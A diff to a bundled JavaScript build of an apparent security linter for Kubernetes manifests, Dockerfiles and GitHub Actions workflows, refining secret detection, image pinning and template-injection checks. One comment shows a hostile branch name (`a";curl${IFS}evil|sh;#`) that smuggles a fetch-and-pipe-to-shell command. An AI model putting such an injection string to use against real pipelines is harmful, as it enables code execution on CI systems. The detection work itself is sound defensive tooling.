+        : ` (${config.partial.join(', ')} could only be read in part: template lines or templated file names)`;
+    if (editing.length === 0)
+        return `no updatecli target (${manifests}) edits it${partial}`;
+    const shown = editing
+        .slice(0, 3)
+        .map((t) => `${t.keyword ?? t.kind}${t.matcher ? ` ${t.matcher}` : ''} in ${t.manifest}`);
+    const more = editing.length > 3 ? ` and ${editing.length - 3} more` : '';
+    return (`its updatecli targets (${shown.join('; ')}${more}) change neither a FROM instruction nor an ARG ` +
+        `that a FROM line uses${partial}`);
 }
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/dockerfile/add-url.js
@@ -19554,8 +20008,27 @@ function pathFacts(path) {
 }
 /** Values that name or fetch a secret rather than being one. */
 const REFERENCE = /^\$[A-Za-z_{(]|^%[A-Za-z_]\w*%$|^@\w+@$|^[&*][A-Za-z_][\w-]*$|^![A-Za-z]|\$\{|process\.env|os\.environ|getenv|secrets\.|vault:|^arn:|^ref\+|^sm:\/\/|^projects\/|:\/\/|^[A-Za-z_][\w.-]*\(/;
-/** An unquoted value with a call or a member access is an expression, not a literal. */
-const EXPRESSION = /\(|\[$|^[A-Za-z_$][\w$]*(?:\.[A-Za-z_$][\w$]*)+$/;
+/** A name in the expressions of configuration languages (HCL, JavaScript, Python). */
+const IDENTIFIER = String.raw `[A-Za-z_$][\w$]*`;
+/** An index or a splat: `[0]`, `[*]`, `["key"]`, `['key']`, `[count.index]`. */
+const INDEX = String.raw `\[(?:\d{1,9}|\*|"[^"\\\r\n]{0,128}"|'[^'\\\r\n]{0,128}'|${IDENTIFIER}(?:\.${IDENTIFIER})*)\]`;
+/**
+ * A reference to a value held elsewhere: a name, then members, indexes and splats, with at least one
+ * member (`var.token`, `data.x.cluster[0].token`, `module.m.outputs["token"]`, `data.x[*].token`,
+ * `aws_instance.x.*.id`). Before the first member come only indexes and `.*` splats, which cannot be
+ * read as a member (a name does not start with `*`): a value is read one way, in linear time.
+ */
+const TRAVERSAL = String.raw `${IDENTIFIER}(?:${INDEX})*(?:\.\*(?:${INDEX})*)*\.${IDENTIFIER}(?:\.${IDENTIFIER}|\.\*|${INDEX})*`;
+/**
+ * A reference where an unquoted value starts, up to where the value ends. Read whole here: the value
+ * pattern stops at `]` and at quotes, which would leave `data.x.cluster[0` of `data.x.cluster[0].token`.
+ */
+const TRAVERSAL_VALUE = new RegExp(String.raw `${TRAVERSAL}(?=[\s,;)\]}]|$)`, 'y');
+/**
+ * An unquoted value with a call, a member access, an index or a splat is an expression, not a literal;
+ * so is a reference cut inside an index that has spaces (`data.x[count.index` of `[count.index + 1]`).
+ */
+const EXPRESSION = new RegExp(String.raw `\(|\[$|^${TRAVERSAL}(?:\[[\w$.]*)?$`);
 const NUMBERLIKE = /^[0-9.,:_-]+$/;
 const PATHLIKE = /^(?:\/|\.{1,2}\/|~\/|[A-Za-z]:\\)/;
 /**
@@ -19640,8 +20113,9 @@ function assignedValue(line, nameStart, nameEnd, path) {
     if (!configFile && !isConfigStyle(line, nameStart) && line.slice(nameStart - 2, nameStart) !== '--') {
         return undefined;
     }
+    TRAVERSAL_VALUE.lastIndex = valueAt;
     UNQUOTED.lastIndex = valueAt;
-    const value = UNQUOTED.exec(line)?.[1];
+    const value = TRAVERSAL_VALUE.exec(line)?.[0] ?? UNQUOTED.exec(line)?.[1];
     return value === undefined ? undefined : { value, start: valueAt, quoted: false };
 }
 /** Literal, random-looking values assigned to secret-looking names (the rule sets the entropy floor). */
@@ -25134,6 +25608,16 @@ const githubWorkflowToken = (0,types/* defineEvaluator */.D)({
  * templates (Go templates, rendered at install time) and kustomize patches (fragments merged into a
  * base, so a missing field there is not missing from the result).
  */
+/** How the Kubernetes rules say, in their scope, that they left a Helm chart template out. */
+const HELM_TEMPLATE = {
+    kind: 'Helm chart template',
+    reason: 'rendered at install time: check the output of helm template',
+};
+/** How the Kubernetes rules say, in their scope, that they left a kustomize patch out. */
+const KUSTOMIZE_PATCH = {
+    kind: 'kustomize patch',
+    reason: 'merged into their base, which is checked',
+};
 const KUSTOMIZATION_GLOBS = ['**/kustomization.yaml', '**/kustomization.yml', '**/Kustomization'];
 /** True for a file under the `templates/` directory of a Helm chart (a `Chart.yaml` beside it). */
 function isHelmTemplate(workspace, file) {
@@ -25256,11 +25740,21 @@ function looksLikeManifest(file, text) {
 }
 /** The YAML and JSON files the Kubernetes rules read: a change to any other one touches none of them. */
 const K8S_SCREEN = (0,screens/* defineScreen */.ME)('k8s-manifest', looksLikeManifest, NOT_MANIFESTS);
-/** YAML files of the workspace that may hold manifests: not Helm templates, not kustomize patches. */
+/**
+ * YAML files of the workspace that may hold manifests: not Helm templates, not kustomize patches.
+ * Those are left out of the asking rule's scope (see `Workspace.leaveOut`), so its report says so.
+ */
 function k8sManifestPaths(workspace) {
-    return workspace
-        .screenedGlob(K8S_GLOBS, K8S_SCREEN)
-        .filter((f) => !isHelmTemplate(workspace, f) && !excludedByKustomize(workspace, f));
+    const paths = [];
+    for (const f of workspace.screenedGlob(K8S_GLOBS, K8S_SCREEN)) {
+        if (isHelmTemplate(workspace, f))
+            workspace.leaveOut(f, HELM_TEMPLATE);
+        else if (excludedByKustomize(workspace, f))
+            workspace.leaveOut(f, KUSTOMIZE_PATCH);
+        else
+            paths.push(f);
+    }
+    return paths;
 }
 /**
  * The Kubernetes objects of one file (cached per run), or an empty list when it holds none. A file
@@ -25877,14 +26371,21 @@ const k8sHostPort = (0,types/* defineEvaluator */.D)({
 
 
 
+
 /**
  * Flags container images with no tag or the `latest` tag and no digest: the version that runs
  * changes whenever the tag is re-pointed and a pod restarts, without a change to the manifest.
- * Images filled in by a templating step (`${TAG}`, `{{ .Values.tag }}`) are not judged.
+ * Images filled in by a templating step (`${TAG}`, `{{ .Values.tag }}`) are not judged, nor images a
+ * build tool replaces at deploy time with the image it built: `ko://` import paths, and the artifacts
+ * the repository's Skaffold configuration builds (Skaffold deploys them by digest).
+ *
+ * Not `scope: 'file'`: a finding depends on the Skaffold files too. The engine records what the rule
+ * reads (the Skaffold glob and files included), so a change to a `skaffold.yaml` alone evaluates it again.
  */
 const k8sImageTag = (0,types/* defineEvaluator */.D)({
     kind: 'k8s.image-tag',
-    summary: 'Kubernetes container images with no tag or the "latest" tag, and no digest.',
+    summary: 'Kubernetes container images with no tag or the "latest" tag, and no digest (not the images a ' +
+        'build tool substitutes at deploy time: Skaffold build artifacts and `ko://` references).',
     schema: NO_OPTIONS,
     evaluate({ workspace }) {
         const findings = [];
@@ -25897,6 +26398,12 @@ const k8sImageTag = (0,types/* defineEvaluator */.D)({
                 return;
             if (ref.tag !== undefined && ref.tag !== 'latest')
                 return;
+            // ko resolves `ko://<import path>` to the image it built, by digest (no valid image name as written).
+            if (/^ko:\/\//i.test(ref.raw))
+                return;
+            // Read only when there is something to excuse: a tree without candidates does not depend on them.
+            if (skaffoldArtifacts(workspace).has(imageName(ref)))
+                return;
             const problem = ref.tag === 'latest' ? 'uses the "latest" tag' : 'has no tag, which means "latest"';
             findings.push(containerFinding(c, image, `Image "${ref.raw}" of the ${describeContainer(c)} ${problem}: what runs changes whenever the tag is ` +
                 're-pointed and a pod restarts. Pin a version tag or a @sha256 digest.', `image:${ref.raw}`));
@@ -25904,6 +26411,60 @@ const k8sImageTag = (0,types/* defineEvaluator */.D)({
         return findings;
     },
 });
+/** Skaffold's configuration files, wherever they are (a monorepo may have several, each with `requires`). */
+const SKAFFOLD_GLOBS = ['**/skaffold.yaml', '**/skaffold.yml'];
+/** `apiVersion: skaffold/v1beta2`, `skaffold/v2beta29`, `skaffold/v3`, `skaffold/v4beta11`, ... */
+const SKAFFOLD_API = /^skaffold\/v\d/;
+/** A reference without its tag and digest: what Skaffold compares with an artifact's `image`. */
+function imageName(ref) {
+    return ref.registry ? `${ref.registry}/${ref.repository}` : ref.repository;
+}
+/**
+ * The images that the Skaffold configurations of the workspace build (`build.artifacts[].image`, in
+ * every document and every profile), by name without tag or digest. Skaffold replaces a manifest's
+ * image of the same name with the one it built, tagged and pinned by digest, when it deploys. A file
+ * that does not parse declares nothing: Skaffold reports it, and it must not make another rule fail
+ * (so it is parsed here, not recorded as an input problem of the tree). Computed once per tree.
+ */
+function skaffoldArtifacts(workspace) {
+    return workspace.memo('k8s-skaffold-artifacts', '', () => {
+        const names = new Set();
+        for (const file of workspace.glob(SKAFFOLD_GLOBS)) {
+            // Bounded by the workspace (size) and the parser (depth, aliases, expanded nodes).
+            const text = workspace.text(file);
+            const parsed = text === undefined ? undefined : (0,yaml/* parseYaml */.hN)(text);
+            if (!parsed?.ok)
+                continue;
+            for (const doc of parsed.documents) {
+                const config = image_tag_record(doc.value);
+                if (typeof config?.apiVersion !== 'string' || !SKAFFOLD_API.test(config.apiVersion))
+                    continue;
+                addArtifacts(names, config.build);
+                if (!Array.isArray(config.profiles))
+                    continue;
+                for (const profile of config.profiles)
+                    addArtifacts(names, image_tag_record(profile)?.build);
+            }
+        }
+        return names;
+    });
+}
+function addArtifacts(names, build) {
+    const artifacts = image_tag_record(build)?.artifacts;
+    if (!Array.isArray(artifacts))
+        return;
+    for (const artifact of artifacts) {
+        const image = image_tag_record(artifact)?.image;
+        const ref = typeof image === 'string' ? parseImageRef(image) : undefined;
+        if (ref)
+            names.add(imageName(ref));
+    }
+}
+function image_tag_record(value) {
+    return typeof value === 'object' && value !== null && !Array.isArray(value)
+        ? value
+        : undefined;
+}
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/k8s/fix-escalation.js
 
@@ -28204,6 +28765,24 @@ function memoByScript(scan, limit = 2048) {
 function shell_joinContinuations(script) {
     return script.replace(/\\\r?\n/g, (m) => ' '.repeat(m.length));
 }
+/** A command's flag that makes it only rehearse (npm, yarn, pnpm, cargo, helm, kubectl, semantic-release). */
+const DRY_RUN = /(?:^|\s)--dry-run(?:[=\s]|$)/;
+/**
+ * The first match of `command` in a script that is no rehearsal: its command, up to the end of its
+ * line (continuations joined), `;`, `&&` or `||`, has no `--dry-run`. Offsets are the script's.
+ */
+function firstRealCommand(script, command) {
+    const joined = shell_joinContinuations(script);
+    const re = new RegExp(command.source, command.flags.includes('g') ? command.flags : `${command.flags}g`);
+    for (let m = re.exec(joined); m; m = re.exec(joined)) {
+        const rest = joined.slice(m.index).split(/\n|;|&&|\|\|/, 1)[0];
+        if (!DRY_RUN.test(rest))
+            return m;
+        if (m[0].length === 0)
+            re.lastIndex += 1;
+    }
+    return undefined;
+}
 function lines(script) {
     const out = [];
     const joined = shell_joinContinuations(script);
@@ -28581,6 +29160,8 @@ function parseUses(text) {
     const raw = text.trim();
     if (raw.startsWith('./'))
         return { kind: 'local', raw, path: raw };
+    if (raw.startsWith('$/'))
+        return { kind: 'local', raw, path: `./${raw.slice(2)}`, self: true };
     if (raw.startsWith('docker://')) {
         const image = parseImageRef(raw.slice('docker://'.length));
         return image
@@ -28829,9 +29410,35 @@ const VALUE_OPTIONS = new Set([
     '-C',
     '--dir',
 ]);
-/** `name@1.2.3`, or a version from a variable (`name@$VERSION`, set elsewhere). */
-const npmPinned = (s) => /^(?:@[^/@]+\/)?[^@]+@(?:v?\d+\.\d+\.\d+|\$)/.test(s);
-const pipPinned = (s) => /===?\s*\d/.test(s);
+/**
+ * A value the workflow sets elsewhere: a GitHub expression (`${{ matrix.version }}`), a shell variable
+ * (`$VERSION`, `${VERSION}`, `$1`, PowerShell's `$env:VERSION`) or a command's output (`$(cat .version)`).
+ */
+const adhoc_packages_EXPRESSION = /\$(?:[{(]|[A-Za-z_\d])/;
+/** What follows the first `separator` of a package argument from `from` on (its version), if any. */
+function versionAfter(spec, separator, from = 0) {
+    const at = spec.indexOf(separator, from);
+    return at < 0 ? undefined : spec.slice(at + separator.length).trim();
+}
+/**
+ * A version taken from an expression wherever the expression stands in it (`${{ matrix.v }}`,
+ * `v${{ matrix.v }}`, `1.$MINOR`): a version someone chose, as fixed as a literal one. A range around
+ * an expression (`^${V}`, `~$V`, `>=$V`) still floats.
+ */
+function chosenVersion(version) {
+    return version !== undefined && /^[^^~<>=!*|]/.test(version) && adhoc_packages_EXPRESSION.test(version);
+}
+/** `name@1.2.3`, or a version from a variable (`name@$VERSION`, `name@v${{ matrix.version }}`). */
+const npmPinned = (s) => {
+    // After a scope's `@` (`@scope/name@1.2.3`).
+    const version = versionAfter(s, '@', 1);
+    return version !== undefined && (/^v?\d+\.\d+\.\d+/.test(version) || chosenVersion(version));
+};
+/** `name==1.2` or `name==${{ matrix.version }}`; `>=`, `~=` and `!=` leave the version to the resolver. */
+const pipPinned = (s) => {
+    const version = /===?(.*)$/.exec(s)?.[1]?.trim();
+    return version !== undefined && (/^\d/.test(version) || chosenVersion(version));
+};
 /** Recognises an install by name and returns its package arguments. */
 function adhoc(command) {
     let words = command.program.map((w) => w);
@@ -28868,27 +29475,32 @@ function adhoc(command) {
         case 'gem':
             if (sub !== 'install' || words.some((w) => /^(?:-g|--file)$/.test(w.text)))
                 return undefined;
-            return result('gem install', args(), (s) => /:v?\d+\.\d+/.test(s) || versionFlag(words));
+            return result('gem install', args(), (s) => /:v?\d+\.\d+/.test(s) || chosenVersion(versionAfter(s, ':')) || versionFlag(words));
         case 'bundle':
             return sub === 'add' ? result('bundle add', args(), () => versionFlag(words)) : undefined;
         case 'cargo':
             if (sub !== 'install' || words.some((w) => /^--path(=|$)/.test(w.text)))
                 return undefined;
-            return result('cargo install', args(), (s) => /@\d/.test(s) || versionFlag(words));
+            return result('cargo install', args(), (s) => /@\d/.test(s) || chosenVersion(versionAfter(s, '@')) || versionFlag(words));
         case 'go':
             // `go install pkg@v1.2.3` is checked against the checksum database: only @latest and branches float.
             if (sub !== 'install')
                 return undefined;
             return result('go install', 
-            // A commit or a version from a variable is as fixed as a tag.
-            args().filter((w) => /@/.test(w.text) && !/@(?:v\d+\.\d+\.\d+|[0-9a-f]{7,40}$|\$)/.test(w.text)), () => false);
+            // A commit or a version from a variable (`@$V`, `@v${{ matrix.v }}`) is as fixed as a tag.
+            args().filter((w) => {
+                const version = versionAfter(w.text, '@');
+                return (version !== undefined &&
+                    !/^(?:v\d+\.\d+\.\d+|[0-9a-f]{7,40}$)/.test(version) &&
+                    !chosenVersion(version));
+            }), () => false);
         case 'dotnet':
             return sub === 'tool' && words[2]?.text === 'install'
                 ? result('dotnet tool install', packagesAfter(words.slice(3)), () => versionFlag(words))
                 : undefined;
         case 'composer':
             return sub === 'require' || (sub === 'global' && words[2]?.text === 'require')
-                ? result(`composer ${sub}`, packagesAfter(words.slice(sub === 'global' ? 3 : 2)), (s) => /:\s*v?\d+\.\d+\.\d+$/.test(s))
+                ? result(`composer ${sub}`, packagesAfter(words.slice(sub === 'global' ? 3 : 2)), (s) => /:\s*v?\d+\.\d+\.\d+$/.test(s) || chosenVersion(versionAfter(s, ':')))
                 : undefined;
         default:
             return undefined;
@@ -29342,6 +29954,7 @@ function soundGuard(node) {
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/publishing.js
 
+
 /**
  * What makes a workflow a release: its trigger (a release, a pushed tag) or a step that publishes
  * (a package registry, a GitHub release, a container registry). Shared by the audits that judge
@@ -29382,7 +29995,7 @@ function publishes(step) {
         }
         return false;
     }
-    return typeof step.run?.value === 'string' && PUBLISH_COMMAND.test(step.run.value);
+    return (typeof step.run?.value === 'string' && firstRealCommand(step.run.value, PUBLISH_COMMAND) !== undefined);
 }
 /**
  * A release trigger: `release`, or `push` of tags only; not in a workflow that also runs on pull
@@ -29413,15 +30026,15 @@ function releaseTrigger(workflow) {
 function publishingJobs(workflow) {
     const byId = new Map(workflow.jobs.map((j) => [j.id, j]));
     const out = new Set();
-    const add = (job, needed = false) => {
-        if (out.has(job) || (needed && !handsOver(job)))
+    const add = (job, neededBy) => {
+        if (out.has(job) || (neededBy && !handsOver(job, neededBy)))
             return;
         out.add(job);
         const needs = job.value.needs;
         for (const id of Array.isArray(needs) ? needs : typeof needs === 'string' ? [needs] : []) {
             const dep = typeof id === 'string' ? byId.get(id) : undefined;
             if (dep)
-                add(dep, true);
+                add(dep, job);
         }
     };
     for (const job of workflow.jobs)
@@ -29429,11 +30042,16 @@ function publishingJobs(workflow) {
             add(job);
     return out;
 }
-/** A job whose results another job can use: artifacts it uploads, or outputs it declares. */
-function handsOver(job) {
+/**
+ * A job whose results the job that needs it can use: outputs it declares, or artifacts it uploads
+ * when that job downloads artifacts (an upload of documentation beside a release job that downloads
+ * nothing feeds no release).
+ */
+function handsOver(job, neededBy) {
     if ((job.outputs?.entries.size ?? 0) > 0)
         return true;
-    return job.steps.some((s) => /upload-artifact/.test(actionPathOf(s.uses) ?? ''));
+    const uses = (j, action) => j.steps.some((s) => (actionPathOf(s.uses) ?? '').includes(action));
+    return uses(job, 'upload-artifact') && uses(neededBy, 'download-artifact');
 }
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/cache-poisoning.js
@@ -29742,7 +30360,11 @@ function writes(workflow, job) {
         return false;
     if (perms.shorthand)
         return perms.shorthand.value.trim() === 'write-all';
-    return perms.scopes.some((s) => typeof s.level.value === 'string' && s.level.value.trim() === 'write');
+    // What git pushes with: `contents: write`. Other write scopes (security-events, pull-requests, ...)
+    // let the token call the API, not change the repository's code.
+    return perms.scopes.some((s) => s.scope.toLowerCase() === 'contents' &&
+        typeof s.level.value === 'string' &&
+        s.level.value.trim() === 'write');
 }
 /** What every checkout of a workflow shares: its events from outsiders, and whether it uploads artifacts. */
 const FACTS = new WeakMap();
@@ -29766,6 +30388,9 @@ function uploadsWithGitDir(workspace, path, step, dir) {
         return false;
     const root = dir.replace(/^\.\/?/, '').replace(/\/$/, '');
     const covers = paths.value.split('\n').some((line) => {
+        // A block scalar's last line break leaves an empty line, which names no path (`.` names the root).
+        if (line.trim() === '')
+            return false;
         const p = line
             .trim()
             .replace(/^\.\/?/, '')
@@ -29921,8 +30546,8 @@ const workflowContainerCredentials = (0,types/* defineEvaluator */.D)({
 
 /**
  * The jobs and steps of the repository that call the reusable workflow or local action in `file`
- * (`uses: ./.github/workflows/x.yml`, `uses: ./path/to/action`), so that `inputs.*` can be followed
- * back to the values passed in. Indexed once per run.
+ * (`uses: ./.github/workflows/x.yml`, `uses: ./path/to/action`, or the same with `$/`), so that
+ * `inputs.*` can be followed back to the values passed in. Indexed once per run.
  */
 function localCallers(workspace, file) {
     const index = workspace.memo('workflow-local-callers', '', () => {
@@ -30140,7 +30765,9 @@ function conditions_literal(node) {
  * documentation: a value is listed when someone without write access can choose it (by opening a
  * pull request, an issue, a comment, a discussion, or by naming a branch or writing a commit message
  * in a fork). Everything else — SHAs, numbers, ids, booleans, logins and repository names (whose
- * alphabet cannot carry shell or script syntax), values set by maintainers — is not a source.
+ * alphabet cannot carry shell or script syntax), values set by maintainers — is not a source. Labels
+ * are such values: only people with the triage role or above create a repository's labels and put
+ * them on issues and pull requests (an issue form applies only labels that already exist).
  *
  * - `arbitrary`: free text, or a git name that can carry shell syntax without spaces
  *   (`a";curl${IFS}evil|sh;#` is a valid branch name).
@@ -30148,7 +30775,6 @@ function conditions_literal(node) {
  *   admits characters a shell or script interprets.
  */
 const COMMIT = ['message', 'author.name', 'author.email', 'committer.name', 'committer.email'];
-const contexts_LABEL = ['name', 'description'];
 const ARBITRARY = [
     'github.head_ref',
     'github.event.pull_request.title',
@@ -30159,18 +30785,14 @@ const ARBITRARY = [
     'github.event.pull_request.head.repo.default_branch',
     'github.event.pull_request.auto_merge.commit_title',
     'github.event.pull_request.auto_merge.commit_message',
-    ...contexts_LABEL.map((f) => `github.event.pull_request.labels.*.${f}`),
     'github.event.issue.title',
     'github.event.issue.body',
-    ...contexts_LABEL.map((f) => `github.event.issue.labels.*.${f}`),
-    ...contexts_LABEL.map((f) => `github.event.label.${f}`),
     'github.event.comment.body',
     'github.event.comment.path',
     'github.event.comment.diff_hunk',
     'github.event.review.body',
     'github.event.discussion.title',
     'github.event.discussion.body',
-    ...contexts_LABEL.map((f) => `github.event.discussion.labels.*.${f}`),
     'github.event.answer.body',
     'github.event.changes.**',
     ...COMMIT.map((f) => `github.event.head_commit.${f}`),
@@ -30629,19 +31251,26 @@ class Dataflow {
         if (declared.types.length > 0 && declared.types.every((t) => SAFE_INPUT_TYPES.has(t)))
             return [];
         const out = [];
+        const callers = localCallers(this.workspace, source.path);
         // A declared free-text input is chosen by whoever dispatches or calls this, from anywhere: a
-        // source in itself, whatever the callers visible here pass.
+        // source in itself, whatever the callers visible here pass (which are followed below).
         if (declared.via && this.options.inputs) {
             const text = `inputs.${declared.name ?? name}`;
             out.push({
-                origin: { text, capability: 'arbitrary', via: [], input: declared.via },
+                origin: {
+                    text,
+                    capability: 'arbitrary',
+                    via: [],
+                    input: declared.via,
+                    ...(declared.via === 'workflow_dispatch' ? {} : { callers: callers.length }),
+                },
                 collection: false,
             });
         }
         for (const d of declared.defaults) {
             out.push(...this.value({ source, level: 'workflow' }, d.pointer, this.hop(`inputs.${name}`, source, d), depth + 1));
         }
-        for (const caller of localCallers(this.workspace, source.path)) {
+        for (const caller of callers) {
             const entry = [...(caller.with?.entries ?? [])].find(([k]) => k.toLowerCase() === name);
             if (!entry)
                 continue;
@@ -30924,6 +31553,7 @@ const workflowDependabotCooldown = (0,types/* defineEvaluator */.D)({
 
 
 
+
 /**
  * Jobs that deploy to production should name a GitHub `environment:`: it is what lets required
  * reviewers, wait timers, branch restrictions and environment-scoped secrets gate the change, and
@@ -31010,7 +31640,7 @@ function matches(step, action, commands) {
     const path = actionPathOf(step.uses);
     if (path && action(path))
         return `uses ${step.uses.value.replace(/@.*$/, '')}`;
-    const m = step.run && commands.map((re) => re.exec(step.run.value)).find(Boolean);
+    const m = step.run && commands.map((re) => firstRealCommand(step.run.value, re)).find(Boolean);
     return m ? `runs "${m[0].trim()}"` : undefined;
 }
 /**
@@ -32132,6 +32762,15 @@ const workflowOverprovisionedSecrets = (0,types/* defineEvaluator */.D)({
 });
 
 ;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/scopes.js
+/**
+ * Which `GITHUB_TOKEN` scopes a job uses, read from what its steps do: actions whose needs are known
+ * (a table, some of it depending on inputs), `gh` commands and REST paths in scripts that are given
+ * the token, git pushes with the credentials a checkout persisted, and OIDC publishing. What cannot
+ * be told is said: an unknown action or a token use it cannot map is "unsure" at the write level
+ * (a fix never takes away a write scope a step may need); an API read it cannot map is unsure at
+ * the read level.
+ */
+
 
 const R = 'read';
 const W = 'write';
@@ -32294,7 +32933,7 @@ function stepUses(step, needs, add) {
     const repo = actionOf(step.uses);
     const label = stepName(step);
     if (!path || !repo) {
-        if (step.uses.value.startsWith('./'))
+        if (parseUses(step.uses.value).kind === 'local')
             needs.unsure.push({ level: W, why: `${label} runs a local action` });
         else if (mentionsToken(step.env) || mentionsToken(step.with))
             needs.unsure.push({ level: W, why: `${label} passes the token to a container` });
@@ -34677,24 +35316,36 @@ function template_injection_finding(expr, flows, sink, owner, shell, file) {
     const alias = expr.definedAt
         ? ` (written at line ${expr.definedAt.startLine} and expanded here through a YAML alias)`
         : '';
-    // Only the free text of an input whose callers are not visible here: a real risk whenever a caller
+    // Only the free text of an input no caller in this repository calls: a real risk whenever a caller
     // passes untrusted text, which cannot be known from this repository (medium). Text typed into a
     // manual run comes from someone with write access, who could change the workflow anyway (low: out
     // of the regular view, like injections in jobs only insiders can start).
     const onlyInputs = flows.every((f) => f.origin.input !== undefined);
     const onlyDispatch = flows.every((f) => f.origin.input === 'workflow_dispatch');
+    // Called from this repository, and no caller here passes untrusted text (what they pass is followed
+    // as flows of its own): only a caller elsewhere could, if there is one (low, as a manual run's).
+    const calledHere = onlyInputs &&
+        !onlyDispatch &&
+        flows.every((f) => f.origin.input === 'workflow_dispatch' || (f.origin.callers ?? 0) > 0);
+    const callersNote = calledHere
+        ? ' Every job or step of this repository that calls it passes a fixed or trusted value; the risk is a caller elsewhere passing untrusted text.'
+        : '';
     const written = file === 'env'
         ? ' The line writes it to $GITHUB_ENV, so a line break in it also sets variables (LD_PRELOAD, NODE_OPTIONS, ...) for every later step.'
         : file === 'path'
             ? ' The line writes it to $GITHUB_PATH, so it also decides where every later step finds its commands.'
             : '';
     return {
-        message: `"${ref}" in ${sink}${alias} is substituted into the code before it runs and can carry ${what}: ${shown}${more}.${written} ` +
+        message: `"${ref}" in ${sink}${alias} is substituted into the code before it runs and can carry ${what}: ${shown}${more}.${written}${callersNote} ` +
             remediation(sink, shell),
         location: expr.locate(first.ref.start, first.ref.end),
         key: `${owner}/${sink}/${ref}`,
         severity: arbitrary ? 'high' : 'medium',
-        ...(onlyDispatch ? { confidence: 'low' } : onlyInputs ? { confidence: 'medium' } : {}),
+        ...(onlyDispatch || calledHere
+            ? { confidence: 'low' }
+            : onlyInputs
+                ? { confidence: 'medium' }
+                : {}),
     };
 }
 /** How to read the value as data where it is used. */
@@ -40304,7 +40955,7 @@ class LineIndex {
 /* harmony export */   Rv: () => (/* binding */ emptyInputs),
 /* harmony export */   no: () => (/* binding */ InputLog)
 /* harmony export */ });
-/* unused harmony export SCOPE_EXAMPLES */
+/* unused harmony exports SCOPE_EXAMPLES, LEFT_OUT_EXAMPLES */
 /* harmony import */ var _screens_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(9752);
 /**
  * What a rule looked at. A verdict must never rest on a rule that examined nothing (a Terraform rule
@@ -40334,6 +40985,20 @@ class ScopeRecorder {
     rule = null;
     trail = [];
     open = 0;
+    /** Kinds of left-out files met so far, each once: the recorder names one by its index. */
+    kinds = [];
+    kindIndex = new Map();
+    /** What the running rule left out: positions by kind index; null until it leaves something out. */
+    left = null;
+    /**
+     * Files left out while a cached computation is open, as pairs (kind index, position): the trail
+     * holds `-1 - n` for the n-th pair, so a computation's reads and what it left out stay in order.
+     */
+    leftTrail = [];
+    /** What the computation closed last left out (pairs), until {@link takeLeft}. */
+    closedLeft;
+    /** What the rule ended last left out (see {@link leftOut}). */
+    ended;
     /** Whether a read must be recorded: a rule is being recorded or a cached computation is open. */
     active = false;
     /**
@@ -40366,6 +41031,53 @@ class ScopeRecorder {
             this.trail.push(i);
     }
     /**
+     * Records that the running rule left `file` out on purpose, as a file of this kind: it is said in
+     * the rule's scope, never skipped silently. Each file counts once per rule and kind.
+     */
+    leaveOut(file, kind) {
+        const i = this.position(file);
+        if (i === undefined || !this.active)
+            return;
+        const key = `${kind.kind}\u0000${kind.reason}`;
+        let k = this.kindIndex.get(key);
+        if (k === undefined) {
+            k = this.kinds.length;
+            this.kinds.push({ kind: kind.kind, reason: kind.reason });
+            this.kindIndex.set(key, k);
+        }
+        this.leaveOutAt(k, i);
+    }
+    leaveOutAt(k, i) {
+        if (this.rule !== null) {
+            this.left ??= new Map();
+            let set = this.left.get(k);
+            if (!set) {
+                set = new Set();
+                this.left.set(k, set);
+            }
+            set.add(i);
+        }
+        if (this.open > 0) {
+            this.trail.push(-1 - this.leftTrail.length / 2);
+            this.leftTrail.push(k, i);
+        }
+    }
+    /** Credits the running rule (and open computations) with what a cached computation left out. */
+    replayLeft(pairs) {
+        for (let j = 0; j < pairs.length; j += 2)
+            this.leaveOutAt(pairs[j], pairs[j + 1]);
+    }
+    /** What the computation closed last left out (pairs for {@link replayLeft}), once; usually nothing. */
+    takeLeft() {
+        const left = this.closedLeft;
+        this.closedLeft = undefined;
+        return left;
+    }
+    /** What the rule ended last left out, by kind; undefined when nothing. */
+    leftOut() {
+        return this.ended;
+    }
+    /**
      * Keeps, of what the running rule examined so far, only the files at these positions: a rule that
      * read a family's files (every `.tf` file) but found its subjects in a few of them (the resources
      * of its types) examined those few. A file dropped here counts again if the rule reads it later.
@@ -40387,12 +41099,17 @@ class ScopeRecorder {
         this.stamps ??= new Uint32Array(this.files.length);
         this.epoch += 1;
         this.rule = [];
+        this.left = null;
+        this.ended = undefined;
         this.active = true;
     }
     /** Ends a rule's run: the positions of the files it examined, each once. */
     end() {
         const examined = this.rule ?? [];
         this.rule = null;
+        const left = this.left;
+        this.left = null;
+        this.ended = left ? [...left].map(([k, files]) => ({ ...this.kinds[k], files: [...files] })) : undefined;
         this.active = this.open > 0;
         return examined;
     }
@@ -40414,22 +41131,45 @@ class ScopeRecorder {
             return NO_DEPS;
         const trail = this.trail;
         let deps = NO_DEPS;
+        this.closedLeft = undefined;
         if (trail.length > frame) {
             const first = trail[frame];
-            let same = true;
+            let same = first >= 0;
             for (let i = frame + 1; i < trail.length && same; i++)
                 same = trail[i] === first;
-            deps = same ? first : [...new Set(trail.slice(frame))];
+            if (same)
+                deps = first;
+            else {
+                // Something was left out (or several files read): positions apart from left-out pairs.
+                const read = new Set();
+                let left;
+                for (let i = frame; i < trail.length; i++) {
+                    const t = trail[i];
+                    if (t >= 0)
+                        read.add(t);
+                    else {
+                        const n = (-1 - t) * 2;
+                        left ??= [];
+                        left.push(this.leftTrail[n], this.leftTrail[n + 1]);
+                    }
+                }
+                deps = read.size > 0 ? [...read] : NO_DEPS;
+                this.closedLeft = left;
+            }
         }
         this.open -= 1;
-        if (this.open === 0)
+        if (this.open === 0) {
             trail.length = 0;
+            this.leftTrail.length = 0;
+        }
         this.active = this.rule !== null || this.open > 0;
         return deps;
     }
 }
 /** Paths listed per rule in the report; the count covers the rest. */
 const SCOPE_EXAMPLES = 20;
+/** Paths listed per kind of file a rule left out; the count covers the rest. */
+const LEFT_OUT_EXAMPLES = 5;
 /**
  * The files one rule examined, gathered over its runs (one over the tree, or one per slice of a large
  * tree): a bit per file of the tree, so the count is exact however the runs overlap, and a tally
@@ -40440,6 +41180,8 @@ class ScopeTally {
     discount;
     bits;
     counted = 0;
+    /** What the rule left out, by kind (see {@link addLeftOut}). */
+    left;
     /**
      * `files`: the tree's files, which positions index; `discount`: positions of files that are never
